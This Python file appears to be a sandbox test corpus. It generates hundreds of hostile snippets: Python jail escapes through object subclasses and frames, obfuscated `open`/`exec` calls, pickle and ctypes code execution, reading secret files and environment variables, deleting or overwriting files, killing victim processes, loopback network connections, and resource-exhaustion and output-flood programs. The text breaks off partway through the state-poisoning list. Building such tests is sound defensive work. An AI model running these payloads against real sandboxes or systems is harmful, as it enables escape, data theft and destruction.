# ruff: noqa: E501
"""Hostile programs, by class. Each works on bare CPython; SECRET, WRITE, FOLDER, PORT, VICTIM, NAME are put in.

SECRET: a file with a token. WRITE: a path that must not come to be. FOLDER: a folder with a file named with the token.
PORT: a listening TCP and UDP port on loopback. VICTIM: a process. NAME: an environment variable with the token.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cache


@dataclass(frozen=True)
class Hostile:
    """One program. ``kind`` is its class, ``name`` unique. ``after`` runs next in the same sandbox (state)."""

    kind: str
    name: str
    source: str
    after: str = ""


KINDS = (
    *("attributes", "builtins", "imports", "files", "environment", "network", "processes", "resources", "floods"),
    *("state", "forged", "palchain"),
)

_READ = "fd = o.open('SECRET', 0)\nans = o.read(fd, 100).decode()"
_WRITE = "o.close(o.open('WRITE', o.O_CREAT | o.O_WRONLY))\nans = 1"
_RUN = "o.system('touch WRITE')\nans = 1"
_ENV = "ans = o.environ['NAME']"
_EFFECTS = {"read": _READ, "write": _WRITE, "run": _RUN, "env": _ENV}

_ROOTS = (
    *("().__class__.__base__", "''.__class__.__mro__[-1]", "type.mro(int)[-1]", "(lambda: 0).__class__.__base__"),
    *(
        "int.__bases__[0]",
        "{}.__class__.__bases__[0]",
        "Exception.__mro__[-1]",
        "super(type, type).__self__.__base__",
        "object",
    ),
    *("getattr(getattr((), '__cla' + 'ss__'), '__ba' + 'se__')", "type(type(0)).__bases__[0]"),
)
_HOLDERS = (
    "_wrap_close",
    "_ModuleLock",
    "FileFinder",
    "ModuleSpec",
    "_ModuleLockManager",
    "FileLoader",
    "_NamespacePath",
)
_WALKS = (
    "B((lambda: 0).__globals__['__builtins__'])['__import__']('os')",
    "print.__self__.__import__('os')",
    "len.__self__.__dict__['__import__']('os')",
    "B([].__reduce_ex__(2)[0].__globals__['__builtins__'])['__import__']('os')",
    "B((x for x in [1]).gi_frame.f_builtins)['__import__']('os')",
    "(lambda: 0).__builtins__['__import__']('os')",
    "abs.__self__.eval('__import__')('os')",
    "object.__getattribute__(print, '__self__').__import__('os')",
    "vars(sorted.__self__)['__import__']('os')",
    "[f.f_builtins for f in [(y for y in [1]).gi_frame]][0]['__import__']('os')",
    "T()['__import__']('os')",
    "C()['__import__']('os')",
    "D.f.__globals__['__builtins__'] and B(D.f.__globals__['__builtins__'])['__import__']('os')",
    "D().f.__func__.__builtins__['__import__']('os')",
    "str.join.__class__ and print.__self__.__dict__['__im' + 'port__']('o' + 's')",
    "(lambda n: getattr(print.__self__, n))(bytes([95, 95, 105, 109, 112, 111, 114, 116, 95, 95]).decode())('os')",
)
_HELPERS = """def B(x):
    return x if isinstance(x, dict) else x.__dict__
def T():
    try:
        1 / 0
    except Exception as e:
        return e.__traceback__.tb_frame.f_builtins
class D:
    def f(self):
        return 1
def C():
    async def c():
        return 1
    r = c()
    g = r.cr_frame.f_builtins
    r.close()
    return g
"""


def _attributes() -> list[Hostile]:
    out = []
    for i, root in enumerate(_ROOTS):
        for j, holder in enumerate(_HOLDERS):
            effect = list(_EFFECTS)[(i + j) % 4]
            walk = f"o = [c for c in {root}.__subclasses__() if c.__name__ == '{holder}'][0]"
            source = f"{walk}.__init__.__globals__['sys'].modules['os']\n{_EFFECTS[effect]}"
            out.append(Hostile("attributes", f"subclasses-{i}-{holder}-{effect}", source))
    for i, walk in enumerate(_WALKS):
        for effect in ("read", "run"):
            out.append(Hostile("attributes", f"walk-{i}-{effect}", f"{_HELPERS}o = {walk}\n{_EFFECTS[effect]}"))
    return out


_BUILTINS = (
    "ans = open('SECRET').read()",
    "ans = eval(\"open('SECRET').read()\")",
    "exec(\"ans = open('SECRET').read()\")",
    "exec(compile(\"ans = open('SECRET').read()\", 'x', 'exec'))",
    "ans = eval(compile(\"open('SECRET').read()\", 'x', 'eval'))",
    "ans = __builtins__['open']('SECRET').read() if isinstance(__builtins__, dict) else __builtins__.open('SECRET').read()",
    "b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)\nans = b['op' + 'en']('SECRET').read()",
    "ans = globals()['__builtins__'] and __import__('builtins').open('SECRET').read()",
    "ans = getattr(__import__('builtins'), 'nepo'[::-1])('SECRET').read()",
    "ans = __import__('os').popen('cat SECRET').read()",
    "__import__('os').system('touch WRITE')\nans = 1",
    "ans = __import__('io').open('SECRET').read()",
    "ans = (lambda f: f('SECRET').read())(open)",
    "ans = list(map(open, ['SECRET']))[0].read()",
    "ans = next(open('SECRET'))",
    "ans = [line for line in open('SECRET')][0]",
    "with open('SECRET') as f:\n    ans = f.readline()",
    "with open('WRITE', 'w') as f:\n    f.write('x')\nans = 1",
    "print('x', file=open('WRITE', 'w'))\nans = 1",
    "ｏｐｅｎ('WRITE', 'w').close()\nans = 1",
    "ans = eval('\\x6fpen(\"SECRET\").read()')",
    "ans = eval(bytes.fromhex('6f70656e').decode() + '(\"SECRET\").read()')",
    "ans = eval(''.join(map(chr, [111, 112, 101, 110])) + '(\"SECRET\").read()')",
    "import base64\nexec(base64.b64decode(base64.b64encode(b\"ans = open('SECRET').read()\")).decode())",
    "import codecs\nans = eval(codecs.decode('bcra', 'rot13') + '(\"SECRET\").read()')",
    "ans = type('X', (), {'r': staticmethod(open)}).r('SECRET').read()",
    "ans = (open).__call__('SECRET').read()",
    "class M(type):\n    def __getitem__(c, k):\n        return open(k).read()\nclass A(metaclass=M):\n    pass\nans = A['SECRET']",
    "def solution():\n    return open('SECRET').read()\nans = solution()",
    "@lambda f: open('SECRET').read()\ndef ans():\n    pass",
    "f = open\nans = f('SECRET').read()",
    "ans = max([open], key=lambda f: 0)('SECRET').read()",
    "ans = sorted([('SECRET', open)])[0][1]('SECRET').read()",
    "try:\n    raise ValueError(open)\nexcept ValueError as e:\n    ans = e.args[0]('SECRET').read()",
    "breakpoint_ = __import__('code').InteractiveInterpreter()\nbreakpoint_.runsource(\"open('WRITE', 'w').close()\")\nans = 1",
    "ans = vars()['__builtins__'] and open('SECRET').read()",
    "ans = setattr(D := type('D', (), {}), 'f', open) or D.f('SECRET').read()",
)

_IMPORTS = (
    "import os\nfd = os.open('SECRET', 0)\nans = os.read(fd, 99).decode()",
    "from os import open as o, read\nans = read(o('SECRET', 0), 99).decode()",
    "import posix\nans = posix.read(posix.open('SECRET', 0), 99).decode()",
    "import _io\nans = _io.open('SECRET').read()",
    "import io\nans = io.FileIO('SECRET').read().decode()",
    "import importlib\no = importlib.import_module('os')\nans = o.read(o.open('SECRET', 0), 99).decode()",
    "import sys\no = sys.modules['os']\nans = o.read(o.open('SECRET', 0), 99).decode()",
    "import pathlib\nans = pathlib.Path('SECRET').read_text()",
    "from pathlib import Path\nPath('WRITE').touch()\nans = 1",
    "import subprocess\nsubprocess.run(['touch', 'WRITE'])\nans = 1",
    "import shutil\nshutil.copy('SECRET', 'WRITE')\nans = 1",
    "import tempfile\ntempfile.mkdtemp(prefix='WRITE'.split('/')[-1], dir='FOLDER') and open('WRITE', 'w')\nans = 1",
    "import fileinput\nans = next(fileinput.input('SECRET'))",
    "import codecs\nans = codecs.open('SECRET').read()",
    "import linecache\nans = linecache.getline('SECRET', 1)",
    "import tokenize\nans = tokenize.open('SECRET').read()",
    "import ctypes\nl = ctypes.CDLL(None)\nl.system(b'touch WRITE')\nans = 1",
    "import ctypes\nl = ctypes.CDLL(None)\nf = l.open(b'SECRET', 0)\nb = ctypes.create_string_buffer(99)\nl.read(f, b, 99)\nans = b.value.decode()",
    "import ctypes\nl = ctypes.CDLL(None)\nl.creat(b'WRITE', 0o644)\nans = 1",
    "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'touch WRITE'\\ntR.\")\nans = 1",
    "import pickle\nclass P:\n    def __reduce__(self):\n        return (open, ('WRITE', 'w'))\npickle.loads(pickle.dumps(P())).close()\nans = 1",
    "import timeit\ntimeit.timeit(\"open('WRITE', 'w').close()\", number=1)\nans = 1",
    "import runpy\nans = runpy.run_path and open('SECRET').read()",
    "import mmap, os\nf = os.open('SECRET', os.O_RDONLY)\nans = mmap.mmap(f, 0, prot=mmap.PROT_READ)[:].decode()",
    "import sqlite3\nc = sqlite3.connect('WRITE')\nc.execute('create table t(x)')\nc.commit()\nans = 1",
    "import zipfile\nzipfile.ZipFile('WRITE', 'w').close()\nans = 1",
    "import tarfile\ntarfile.open('WRITE', 'w').close()\nans = 1",
    "import gzip\ngzip.open('WRITE', 'w').close()\nans = 1",
    "import logging\nlogging.FileHandler('WRITE').close()\nans = 1",
    "import shelve\nimport dbm.dumb\ndbm.dumb.open('WRITE').close()\nopen('WRITE', 'w')\nans = 1",
    "import csv\nans = next(csv.reader(open('SECRET')))[0]",
    "import json\nimport wave\nw = open('WRITE', 'wb')\nw.close()\nans = 1",
    "import configparser\nc = configparser.ConfigParser(allow_no_value=True)\nc.read_string('[a]')\nans = open('SECRET').read()",
    "import glob\nans = str(glob.glob('FOLDER/*'))",
    "import inspect\nans = open('SECRET').read() if inspect else 0",
    "import builtins\nans = builtins.open('SECRET').read()",
    "import threading\nr = []\nt = threading.Thread(target=lambda: r.append(open('SECRET').read()))\nt.start()\nt.join()\nans = r[0]",
    "import concurrent.futures\nwith concurrent.futures.ThreadPoolExecutor() as e:\n    ans = e.submit(lambda: open('SECRET').read()).result()",
    "import asyncio\nasync def f():\n    return open('SECRET').read()\nans = asyncio.run(f())",
    "import site, sysconfig\nans = open('SECRET').read()",
    "__import__('sys').modules['os'].system('touch WRITE')\nans = 1",
    "from importlib.machinery import SourceFileLoader\nans = SourceFileLoader('x', 'SECRET').get_data('SECRET').decode()",
    "import importlib.util\nfrom importlib.machinery import SourceFileLoader\ns = importlib.util.spec_from_loader('x', SourceFileLoader('x', 'SECRET'))\nans = s.loader.get_data('SECRET').decode()",
    "import cProfile\ncProfile.runctx(\"open('WRITE', 'w').close()\", {}, {})\nans = 1",
    "import trace\ntrace.Trace(count=0, trace=0).run(\"open('WRITE', 'w').close()\")\nans = 1",
    "import doctest\nimport code\ncode.InteractiveInterpreter().runsource(\"open('WRITE', 'w').close()\")\nans = 1",
    "import functools\nans = functools.partial(open, 'SECRET')().read()",
    "import operator\nans = operator.methodcaller('read')(open('SECRET'))",
    "from operator import call\nans = call(open, 'SECRET').read()",
    "import gc, sys\no = [o for o in gc.get_objects() if type(o) is type(gc) and o.__name__ == 'os'][0]\nans = o.read(o.open('SECRET', 0), 99).decode()",
)

_FILES = (
    "ans = open('SECRET', 'rb').read().decode()",
    "ans = open(b'SECRET').read()",
    "import os\nans = open(os.open('SECRET', os.O_RDONLY)).read()",
    "import os\nans = os.fdopen(os.open('SECRET', 0)).read()",
    "import os\nd = os.open('FOLDER', os.O_RDONLY)\nans = str(os.listdir(d))",
    "import os\nans = str(os.listdir('FOLDER'))",
    "import os\nans = str(list(os.walk('FOLDER')))",
    "import os\nans = str([e.name for e in os.scandir('FOLDER')])",
    "import pathlib\nans = str(list(pathlib.Path('FOLDER').iterdir()))",
    "import pathlib\nans = str(list(pathlib.Path('FOLDER').rglob('*')))",
    "import pathlib\nans = pathlib.Path('SECRET').read_bytes().decode()",
    "import pathlib\nans = pathlib.Path('/').joinpath('SECRET').open().read()",
    "import os\nos.mkdir('WRITE')\nans = 1",
    "import os\nos.makedirs('WRITE/a/b')\nans = 1",
    "import os\nos.symlink('SECRET', 'WRITE')\nans = 1",
    "import os\nos.link('SECRET', 'WRITE')\nans = 1",
    "import os\nos.mkfifo('WRITE')\nans = 1",
    "import os\nos.mknod('WRITE')\nans = 1",
    "import os\nos.rename('MINE', 'WRITE')\nans = 1",
    "import os\nos.replace('MINE', 'WRITE')\nans = 1",
    "import shutil\nshutil.move('MINE', 'WRITE')\nans = 1",
    "import shutil\nshutil.copytree('FOLDER', 'WRITE')\nans = 1",
    "import shutil\nshutil.make_archive('WRITE', 'tar', 'FOLDER')\nimport os\nos.rename('WRITE.tar', 'WRITE')\nans = 1",
    "import os\nos.remove('MINE')\nans = 1",
    "import os\nos.unlink('MINE')\nans = 1",
    "import os\nos.truncate('MINE', 0)\nans = 1",
    "open('MINE', 'w').close()\nans = 1",
    "open('MINE', 'a').write('more')\nans = 1",
    "import os\nos.chmod('MINE', 0)\nans = 1",
    "import os\nos.utime('MINE', (1, 1))\nans = 1",
    "import os\nf = os.open('MINE', os.O_RDWR)\nos.ftruncate(f, 0)\nans = 1",
    "import os\nf = os.open('MINE', os.O_WRONLY)\nos.pwrite(f, b'zzzz', 0)\nans = 1",
    "import pathlib\npathlib.Path('MINE').unlink()\nans = 1",
    "import pathlib\npathlib.Path('WRITE').write_text('x')\nans = 1",
    "import pathlib\npathlib.Path('WRITE').mkdir()\nans = 1",
    "import pathlib\npathlib.Path('MINE').rename('WRITE')\nans = 1",
    "import shutil\nshutil.rmtree('MINE', ignore_errors=True)\nimport os\nos.path.exists('MINE') and os.remove('MINE')\nans = 1",
    "import os\nf = os.open('WRITE', os.O_CREAT | os.O_RDWR)\nos.write(f, b'x')\nans = 1",
    "x = open('WRITE', 'x')\nans = 1",
    "x = open('WRITE', 'ab+')\nans = 1",
    "import os\nos.chdir('FOLDER')\nans = str(os.listdir())",
    "import os\nd = os.open('FOLDER', os.O_RDONLY)\nans = str(os.listdir('/proc/self/fd/' + str(d)))",
    "import os\nans = open('/proc/self/root' + 'SECRET').read()",
    "import os\nans = open('/proc/%d/root' % os.getpid() + 'SECRET').read()",
    "ans = open('/tmp/../' + 'SECRET'.lstrip('/')).read()",
    "import ctypes\nctypes.CDLL(None).rename(b'MINE', b'WRITE')\nans = 1",
    "import ctypes\nctypes.CDLL(None).unlink(b'MINE')\nans = 1",
    "import ctypes\nctypes.CDLL(None).mkdir(b'WRITE', 0o755)\nans = 1",
    "import ctypes\nl = ctypes.CDLL(None)\nl.syscall(257, -100, b'WRITE', 0o101, 0o644)\nans = 1",
    "import ctypes\nl = ctypes.CDLL(None)\nf = l.syscall(2, b'SECRET', 0, 0)\nb = ctypes.create_string_buffer(99)\nl.syscall(0, f, b, 99)\nans = b.value.decode()",
    "import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute(\"attach 'WRITE' as d\")\nc.execute('create table d.t(x)')\nc.commit()\nans = 1",
    "import tempfile\nf = tempfile.NamedTemporaryFile(dir='FOLDER', delete=False)\nimport os\nos.rename(f.name, 'WRITE')\nans = 1",
    "from xml.dom import minidom\nans = open('SECRET').read()",
)

_ENVIRONMENT = (
    "import os\nans = os.environ['NAME']",
    "import os\nans = os.getenv('NAME')",
    "import os\nans = str(dict(os.environ))",
    "import os\nans = os.environb[b'NAME'].decode()",
    "import os\nans = os.environ.copy()['NAME']",
    "import os\nans = str(list(os.environ.items()))",
    "from os import environ\nans = environ.get('NAME')",
    "import posix\nans = posix.environ[b'NAME'].decode()",
    "import os\nans = os.path.expandvars('$NAME')",
    "ans = open('/proc/self/environ').read()",
    "import os\nans = open('/proc/%d/environ' % os.getpid()).read()",
    "import os\nans = open('/proc/%d/environ' % VICTIM).read()",
    "import os\nans = os.popen('echo $NAME').read()",
    "import subprocess\nans = subprocess.check_output('env').decode()",
    "import ctypes\nl = ctypes.CDLL(None)\nl.getenv.restype = ctypes.c_char_p\nans = l.getenv(b'NAME').decode()",
    "import ctypes\ne = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')\nans = ''\ni = 0\nwhile e[i]:\n    ans += e[i].decode()\n    i += 1",
    "import sys\nans = sys.modules['os'].environ['NAME']",
    "ans = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['environ']['NAME']",
    "c = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]\nans = '{0.__init__.__globals__[environ]}'.format(c)",
    "c = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]\nans = f'{c.__init__.__globals__[\"environ\"]}'",
    "import os\nans = '%s' % os.environ",
    "import os\nans = os.spawnlp and str(os.get_exec_path()) + os.environ['NAME']",
    "import multiprocessing, os\nans = os.environ.setdefault('NAME', '')",
)

_NETWORK = (
    "import socket\nsocket.create_connection(('127.0.0.1', PORT), 1)\nans = 1",
    "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', PORT))\nans = 1",
    "import socket\ns = socket.socket()\ns.connect_ex(('localhost', PORT))\nans = 1",
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('127.0.0.1', PORT))\nans = 1",
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('127.0.0.1', PORT))\ns.send(b'x')\nans = 1",
    "import _socket\ns = _socket.socket()\ns.connect(('127.0.0.1', PORT))\nans = 1",
    "import urllib.request\ntry:\n    urllib.request.urlopen('http://127.0.0.1:PORT/', timeout=0.3)\nexcept Exception:\n    pass\nans = 1",
    "import http.client\nc = http.client.HTTPConnection('127.0.0.1', PORT, timeout=1)\nc.request('GET', '/')\nans = 1",
    "import ftplib\ntry:\n    ftplib.FTP().connect('127.0.0.1', PORT, 0.3)\nexcept Exception:\n    pass\nans = 1",
    "import smtplib\ntry:\n    smtplib.SMTP('127.0.0.1', PORT, timeout=0.3)\nexcept Exception:\n    pass\nans = 1",
    "import poplib\ntry:\n    poplib.POP3('127.0.0.1', PORT, timeout=0.3)\nexcept Exception:\n    pass\nans = 1",
    "import imaplib\ntry:\n    imaplib.IMAP4('127.0.0.1', PORT, timeout=0.3)\nexcept Exception:\n    pass\nans = 1",
    "import xmlrpc.client\nimport socket\nsocket.setdefaulttimeout(0.3)\ntry:\n    xmlrpc.client.ServerProxy('http://127.0.0.1:PORT').f()\nexcept Exception:\n    pass\nans = 1",
    "import asyncio\nasync def f():\n    await asyncio.open_connection('127.0.0.1', PORT)\nasyncio.run(f())\nans = 1",
    "import logging.handlers, logging\nh = logging.handlers.SocketHandler('127.0.0.1', PORT)\nh.createSocket()\nans = 1",
    "import logging.handlers, logging\nh = logging.handlers.DatagramHandler('127.0.0.1', PORT)\nh.emit(logging.makeLogRecord({}))\nans = 1",
    "import logging.handlers, logging\nh = logging.handlers.SysLogHandler(('127.0.0.1', PORT))\nh.emit(logging.makeLogRecord({'msg': 'x'}))\nans = 1",
    "import multiprocessing.connection as c\nimport socket\nsocket.setdefaulttimeout(0.3)\ns = c.SocketClient(('127.0.0.1', PORT))\nans = 1",
    "import ssl, socket\ns = socket.create_connection(('127.0.0.1', PORT), 1)\nans = 1",
    "import ctypes, struct\nl = ctypes.CDLL(None)\ns = l.socket(2, 1, 0)\na = struct.pack('<H', 2) + struct.pack('>H', PORT) + bytes([127, 0, 0, 1]) + bytes(8)\nl.connect(s, a, 16)\nans = 1",
    "import ctypes, struct\nl = ctypes.CDLL(None)\ns = l.syscall(41, 2, 1, 0)\na = struct.pack('<H', 2) + struct.pack('>H', PORT) + bytes([127, 0, 0, 1]) + bytes(8)\nl.syscall(42, s, a, 16)\nans = 1",
    "import ctypes, struct\nl = ctypes.CDLL(None)\ns = l.socket(2, 2, 0)\na = struct.pack('<H', 2) + struct.pack('>H', PORT) + bytes([127, 0, 0, 1]) + bytes(8)\nl.sendto(s, b'x', 1, 0, a, 16)\nans = 1",
    "import os\nos.system('bash -c \"exec 3<>/dev/tcp/127.0.0.1/PORT\"')\nans = 1",
    "import subprocess\nsubprocess.run(['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/PORT'])\nans = 1",
    "import socket\ns = socket.socket(socket.AF_INET6)\ns.setsockopt(41, 26, 0)\ns.connect(('::ffff:127.0.0.1', PORT))\nans = 1",
    "import socket, threading\nt = threading.Thread(target=lambda: socket.create_connection(('127.0.0.1', PORT), 1))\nt.start()\nt.join()\nans = 1",
    "o = __import__('socket')\no.create_connection(('127.0.0.1', PORT), 1)\nans = 1",
    "import importlib\nimportlib.import_module('socket').create_connection(('127.0.0.1', PORT), 1)\nans = 1",
    "import sys\ns = sys.modules['socket'] if 'socket' in sys.modules else __import__('socket')\ns.create_connection(('127.0.0.1', PORT), 1)\nans = 1",
    "import urllib.request as u\no = u.build_opener()\ntry:\n    o.open('ftp://127.0.0.1:PORT/', timeout=0.3)\nexcept Exception:\n    pass\nans = 1",
    "import socketserver, socket\nsocket.create_connection(('127.0.0.1', PORT), 1)\nans = 1",
    "import select, socket\ns = socket.socket()\ns.setblocking(False)\ns.connect_ex(('127.0.0.1', PORT))\nselect.select([], [s], [], 1)\nans = 1",
)

_PROCESSES = (
    "import os\nos.system('touch WRITE')\nans = 1",
    "import os\nos.popen('touch WRITE').read()\nans = 1",
    "import os\nif os.fork() == 0:\n    os.close(os.open('WRITE', os.O_CREAT | os.O_WRONLY))\n    os._exit(0)\nos.wait()\nans = 1",
    "import subprocess\nsubprocess.run('touch WRITE', shell=True)\nans = 1",
    "import subprocess\nsubprocess.Popen(['touch', 'WRITE']).wait()\nans = 1",
    "import subprocess\nsubprocess.call(['touch', 'WRITE'])\nans = 1",
    "import subprocess\nsubprocess.check_output(['touch', 'WRITE'])\nans = 1",
    "import subprocess\nsubprocess.getoutput('touch WRITE')\nans = 1",
    "import os\nos.spawnlp(os.P_WAIT, 'touch', 'touch', 'WRITE')\nans = 1",
    "import os\nos.spawnvp(os.P_WAIT, 'touch', ['touch', 'WRITE'])\nans = 1",
    "import os\np = os.posix_spawnp('touch', ['touch', 'WRITE'], os.environ)\nos.waitpid(p, 0)\nans = 1",
    "import os\nos.execlp('touch', 'touch', 'WRITE')",
    "import os\nos.execvp('touch', ['touch', 'WRITE'])",
    "import os\nos.execve('/usr/bin/touch', ['touch', 'WRITE'], {})",
    "import pty\npty.spawn(['touch', 'WRITE'])\nans = 1",
    "import multiprocessing\np = multiprocessing.get_context('fork').Process(target=lambda: open('WRITE', 'w').close())\np.start()\np.join()\nans = 1",
    "import asyncio\nasync def f():\n    p = await asyncio.create_subprocess_exec('touch', 'WRITE')\n    await p.wait()\nasyncio.run(f())\nans = 1",
    "import asyncio\nasync def f():\n    p = await asyncio.create_subprocess_shell('touch WRITE')\n    await p.wait()\nasyncio.run(f())\nans = 1",
    "import ctypes\nctypes.CDLL(None).system(b'touch WRITE')\nans = 1",
    "import ctypes\nl = ctypes.CDLL(None)\nif l.fork() == 0:\n    l.creat(b'WRITE', 0o644)\n    l._exit(0)\nl.wait(0)\nans = 1",
    "import ctypes\nl = ctypes.CDLL(None)\nif l.syscall(57) == 0:\n    l.creat(b'WRITE', 0o644)\n    l._exit(0)\nl.wait(0)\nans = 1",
    "import os\nos.kill(VICTIM, 9)\nans = 1",
    "import os, signal\nos.kill(VICTIM, signal.SIGTERM)\nans = 1",
    "import os\nos.killpg(VICTIM, 9)\nans = 1",
    "import signal, os\nsignal.pidfd_send_signal(os.pidfd_open(VICTIM), 9)\nans = 1",
    "import ctypes\nctypes.CDLL(None).kill(VICTIM, 9)\nans = 1",
    "import ctypes\nctypes.CDLL(None).syscall(200, VICTIM, 9)\nans = 1",
    "import ctypes\nctypes.CDLL(None).syscall(234, VICTIM, VICTIM, 9)\nans = 1",
    "import os\nos.system('kill -9 VICTIM')\nans = 1",
    "import subprocess\nsubprocess.run(['kill', '-9', 'VICTIM'])\nans = 1",
    "import resource\nresource.prlimit(VICTIM, resource.RLIMIT_CPU, (1, 1))\nans = 1",
    "import os\nos.setpriority(os.PRIO_PROCESS, VICTIM, 15)\nans = 1",
    "import os\nos.sched_setaffinity(VICTIM, {0})\nos.setpriority(os.PRIO_PROCESS, VICTIM, 15)\nans = 1",
    "import ctypes\nl = ctypes.CDLL(None)\nl.ptrace(16, VICTIM, 0, 0)\nimport os\nos.waitpid(VICTIM, 0x40000000)\nl.ptrace(8, VICTIM, 0, 0)\nans = 1",
    "__import__('os').system('touch WRITE')\nans = 1",
    "import os, sys\np = os.posix_spawn('/bin/sh', ['sh', '-c', 'touch WRITE'], {'PATH': '/bin:/usr/bin'})\nos.waitpid(p, 0)\nans = 1",
    "import _posixsubprocess, os\nimport subprocess\nsubprocess._USE_VFORK = False\nsubprocess.run(['touch', 'WRITE'])\nans = 1",
    "import os\np = os.forkpty()\nif p[0] == 0:\n    os.close(os.open('WRITE', os.O_CREAT | os.O_WRONLY))\n    os._exit(0)\nos.waitpid(p[0], 0)\nans = 1",
)

_RESOURCES = (
    "while True:\n    pass",
    "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
    "ans = sum(range(10 ** 11))",
    "for i in range(10 ** 10):\n    pass",
    "import itertools\nfor i in itertools.count():\n    pass",
    "import math\nans = math.factorial(10 ** 7) % 7",
    "import math\nans = math.comb(10 ** 7, 5 * 10 ** 6) % 7",
    "ans = 7 ** (10 ** 8) % 10 ** 3",
    "x = 3\nwhile True:\n    x = x * x",
    "ans = pow(3, 10 ** 9) % 5",
    "ans = 1 << 10 ** 11",
    "x = 'a'\nwhile True:\n    x += x",
    "x = []\nwhile True:\n    x.append('a' * 100000)",
    "ans = len('a' * 10 ** 10)",
    "ans = len([0] * 10 ** 10)",
    "ans = len(list(range(10 ** 10)))",
    "x = {}\ni = 0\nwhile True:\n    x[i] = str(i) * 50\n    i += 1",
    "x = set()\ni = 0\nwhile True:\n    x.add((i, str(i) * 50))\n    i += 1",
    "x = [1]\nwhile True:\n    x = x + x",
    "x = ()\nwhile True:\n    x = (x, x, 'a' * 100000)",
    "x = [[0] * 1000 for _ in range(10 ** 8)]",
    "ans = 'a'.join(['b' * 1000] * 10 ** 8)",
    "ans = len('a'.zfill(10 ** 10))",
    "ans = len(f'{1:>10000000000}')",
    "ans = len('%10000000000d' % 1)",
    "ans = len('{:>10000000000}'.format(1))",
    "ans = len('ab'.replace('', 'c' * 10 ** 6) * 10 ** 6)",
    "ans = len(('a' * 10 ** 7).split('a') * 100)",
    "ans = len(bytes(10 ** 10))",
    "from decimal import Decimal, getcontext\ngetcontext().prec = 10 ** 8\nans = Decimal(1) / Decimal(7) + Decimal(2).sqrt()",
    "def f(n):\n    return f(n + 1) + f(n + 2) if n < 60 else 1\nans = f(0)",
    "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nans = fib(60)",
    "import itertools\nans = len(list(itertools.product(range(100), repeat=6)))",
    "import itertools\nans = len(list(itertools.permutations(range(14))))",
    "import itertools\nans = sum(1 for _ in itertools.permutations(range(13)))",
    "ans = sum(x * y for x in range(10 ** 5) for y in range(10 ** 5))",
    "ans = len([x for x in range(10 ** 10)])",
    "d = {i: i for i in range(10 ** 9)}",
    "def g():\n    while True:\n        yield 'a' * 10 ** 6\nans = list(g())",
    "x = list(range(10 ** 6))\nwhile True:\n    x = sorted(x, key=lambda v: -v)",
    "class A:\n    def __init__(self):\n        self.x = [0] * 10 ** 6\nl = []\nwhile True:\n    l.append(A())",
    "from collections import deque\nd = deque()\nwhile True:\n    d.append('x' * 10 ** 6)",
    "import copy\nx = [0] * 10 ** 6\nl = []\nwhile True:\n    l.append(copy.deepcopy(x))",
    "s = 'a' * 10 ** 6\nl = []\nwhile True:\n    l.append(s.upper())",
    "l = []\nwhile True:\n    l.append(lambda x=bytes(10 ** 6): x)",
    "import json\ns = '[' * 10 ** 6 + ']' * 10 ** 6\nl = []\nwhile True:\n    l.append(json.dumps(s))",
    "n = 0\nwhile n >= 0:\n    n += 1 if n < 10 ** 12 else -1",
    "def loop():\n    for i in iter(int, 1):\n        pass\nwhile True:\n    for j in range(10 ** 9):\n        pass",
)

_FLOODS = (
    "while True:\n    print('x' * 1000)",
    "while True:\n    print('x')",
    "print('x' * 50_000_000)\nans = 1",
    "for i in range(10 ** 7):\n    print(i)",
    "print(*range(10 ** 7))\nans = 1",
    "print('\\n' * 10_000_000)\nans = 1",
    "import sys\nwhile True:\n    print('e' * 1000, file=sys.stderr)",
    "print('가' * 20_000_000)\nans = 1",
    "print(['a' * 1000] * 20_000)\nans = 1",
    "print('x' * 10_000_000, end='')\nprint('x' * 10_000_000, end='')\nans = 1",
    "ans = 'x' * 20_000_000",
    "ans = ['x' * 1000] * 20_000",
    "ans = {str(i): 'y' * 1000 for i in range(20_000)}",
    "ans = list(range(3_000_000))",
    "raise ValueError('x' * 20_000_000)",
    "def solution():\n    return '\\0' * 20_000_000\nans = solution()",
    "print({'k' * 1_000_000: 'v' * 9_000_000})\nans = 1",
    "for i in range(200):\n    print(str(i) * 100_000)\nans = 1",
)

_STATE = (
    ("import math\nmath.pi = 3\nans = 1", "import math\nans = math.pi"),
    ("import math\nmath.sqrt = lambda x: 7\nans = 1", "import math\nans = math.sqrt(4)"),
    ("import builtins\nbuiltins.len = lambda x: 7\nans = 1", "ans = len([1])"),
    ("import builtins\nbuiltins.leak = 'LEAK'\nans = 1", "try:\n    ans = leak\nexcept NameError:\n    ans = 'clean'"),
    ("import sys\nsys.leak = 'LEAK'\nans = 1", "import sys\nans = getattr(sys, 'leak', 'clean')"),
    ("import sys\nsys.modules['json'] = 'LEAK'\nans = 1", "import json\nans = json.dumps([1])"),
    ("import json\njson.dumps = lambda x: 'LEAK'\nans = 1", "import json\nans = json.dumps([1])"),
    ("import json\njson.leak = 'LEAK'\nans = 1", "import json\nans = getattr(json, 'leak', 'clean')"),
    ("import decimal\ndecimal.getcontext().prec = 3\nans = 1", "import decimal\nans = str(decimal.Decimal(1) / 3)"),
    ("import random\nrandom.random = lambda: 9\nans = 1", "import random\nans = random.random() < 2"),
    ("import datetime\ndatetime.date = 'LEAK'\nans = 1", "import datetime\nans = str(datetime.date(2020, 1, 1))"),
    ("import re\nre.findall = lambda *a: ['LEAK']\nans = 1", "import re\nans = re.findall('a', 'a')"),
    ("import collections\ncollections.Counter = 'LEAK'\nans = 1", "import collections\nans = collections.Counter('a')['a']"),
    ("__builtins__['sum'] = lambda x: 7 if isinstance(__builtins__, dict) else 0\nans = 1", "ans = sum([1])"),
